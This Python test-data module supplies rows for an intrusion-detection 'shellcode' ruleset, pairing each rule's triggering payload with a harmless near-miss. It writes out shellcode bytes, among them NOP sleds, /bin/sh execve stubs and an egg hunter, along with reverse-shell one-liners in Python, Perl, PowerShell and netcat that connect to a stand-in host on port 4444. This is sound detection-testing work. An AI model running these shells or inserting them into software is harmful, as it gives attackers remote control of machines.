"""Rows for shellcode.rules: machine code and one-line shells as they are sent, and texts and bytes that come near."""
from .steps import dgram, s, talk

SLIDE = b"\x90" * 32
BLOCK32 = b"\xfc\xe8\x82\0\0\0\x60\x89\xe5\x31\xc0\x64\x8b\x50\x30\x8b\x52\x0c"
BLOCK64 = b"\xfc\x48\x83\xe4\xf0\xe8\xc0\0\0\0\x41\x51\x41\x50\x52\x51\x56\x48\x31\xd2\x65\x48\x8b\x52\x60"
DECODER = b"\xda\xc1\xd9\x74\x24\xf4\x5b\x29\xc9\xb1\x31\xbf\x11\x22\x33\x44\x31\x7b\x17\x83"
SHELL32 = b"\x31\xc0\x50h//shh/bin\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80"
SHELL64 = b"\x48\x31\xd2\x48\xbb//bin/sh\x48\xc1\xeb\x08\x53\x48\x89\xe7"
HUNTER = b"\x66\x81\xca\xff\x0f\x42\x52\x6a\x02\x58\xcd\x2e\x3c\x05\x5a\x74\xef\xb8w00t"
SOCKET = b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80"
ALEPH = b"\xeb\x1f\x5e\x89\x76\x08\x31\xc0\x88\x46\x07\x89\x46\x0c\xb0\x0b\x89\xf3"
PYTHON = "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n"
PERL = "perl -e 'use Socket;$i=sockaddr_in(4444,inet_aton(\"198.51.100.7\"));if(connect(S,$i)){open(STDIN,\">&S\");exec(\"/bin/sh -i\");} # STDIN exec sockaddr_in'\n"
POWER = "$c=New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444);$s=$c.GetStream();while(1){iex $d}\n"

TABLE = [
    (1500, talk(21, b"USER " + SLIDE + b"\r\n"), talk(21, b"USER " + b"\x90" * 12 + b"\r\n")),
    (1501, dgram(1434, b"\4" + SLIDE), dgram(1434, b"\4" + b"\x90" * 12)),
    (1502, talk(9001, b"x" * 20 + BLOCK32), talk(9001, b"x" * 20 + b"\xfc\xe8\x82\0\0\0\x60\x89\xe5\x90")),
    (1503, talk(9002, b"x" * 20 + BLOCK64), talk(9002, b"x" * 20 + BLOCK64[:10] + b"text")),
    (1504, talk(9003, DECODER), talk(9003, b"\xd9\x74\x24\xf4 is an instruction that programs have too")),
    (1505, talk(9004, SHELL32), talk(9004, b"h//shh/bin is a text")),
    (1506, talk(9005, SHELL64), talk(9005, b"#!/bin/sh\n/bin/sh -c ls\n")),
    (1507, talk(9006, HUNTER), talk(9006, HUNTER[:8] + b"nothing")),
    (1508, talk(9007, SOCKET), talk(9007, SOCKET[:6] + b"nothing")),
    (1509, talk(9008, ALEPH), talk(9008, ALEPH[:9] + b"nothing")),
    (1510, talk(9009, PYTHON), talk(9009, "import os\nos.dup2(log, 1)\n")),
    (1511, talk(9010, PERL), talk(9010, "perl -e 'open(STDIN, \"<file\"); exec(\"ls\")'\n")),
    (1512, talk(9011, "exec /bin/sh -i <&3 >&3 2>&3\n"), talk(9011, "/bin/sh -i <input\n")),
    (1513, talk(9012, "nc 198.51.100.7 4444 -e /bin/sh\n"), talk(9012, "nc -l -p 4444 > /root/sh.txt\n")),
    (1514, talk(9013, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f\n"), talk(9013, "mkfifo /tmp/f; cat /tmp/f\n")),
    (1515, talk(9014, s(POWER)), talk(9014, s("New-Object System.Net.Sockets.TCPClient('db',1433)\n"))),
    (1516, talk(4460, "\r\nC:\\WINNT\\system32>", reverse=True), talk(4460, "The folder is C:\\WINNT\\system32\r\n", reverse=True)),
]
